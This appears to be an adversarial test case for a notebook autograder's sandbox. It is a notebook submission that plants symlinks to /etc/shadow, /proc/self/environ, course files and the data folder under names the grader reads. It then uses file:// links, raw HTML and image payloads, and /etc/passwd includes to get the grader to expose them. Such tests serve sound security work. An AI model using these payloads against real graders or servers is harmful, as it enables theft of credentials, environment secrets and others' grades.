# ruff: noqa
"""Lets the grader's own programs read for it: links and scripts where the grader looks for its files."""

FAMILY = "stealing"
MAY_PASS = []
MUST_NOT = (
    "A file that the grader reads or copies on behalf of the sandbox is one that the sandbox may not see."
)

# %%
import os
from pathlib import Path

from IPython.display import FileLink, Image, display

targets = ["@COURSE_FILES@".split("|")[0], "@DATA_FOLDER@", "/etc/shadow", "/proc/self/environ"]
for place in (Path.home(), Path("/tmp"), Path("/dev/shm")):
    for number, target in enumerate(targets):
        for name in ("feedback.html", "notebook.ipynb", "result.json", "server.log", f"link{number}.png"):
            try:
                (place / f"{number}-{name}").symlink_to(target)
                (place / name).symlink_to(target)
            except OSError:
                pass
for target in targets:
    display(FileLink(target))
    for kind in ("image/png", "text/html", "image/svg+xml"):
        display({kind: f"file://{target}", "text/plain": f"<img src='file://{target}'>"}, raw=True)
    try:
        display(Image(filename=target))
    except Exception as error:
        print(type(error).__name__)
# %% [markdown]
# ![x](@OUT@/gradebook.csv) ![x](attachment:@OUT@/gradebook.csv) [x](file:///etc/passwd) {% include "/etc/passwd" %}
